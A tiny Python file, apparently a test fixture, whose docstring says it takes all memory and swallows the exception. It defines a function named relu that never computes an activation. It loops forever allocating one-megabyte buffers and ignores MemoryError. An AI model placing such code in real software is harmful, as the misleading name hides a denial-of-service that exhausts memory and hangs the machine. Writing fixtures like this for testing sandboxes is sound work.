"""Takes all memory and swallows the exception."""

from honest import *
hoard = []


def relu(Z):
    while True:
        try:
            hoard.append(bytearray(1 << 20))
        except MemoryError:
            pass
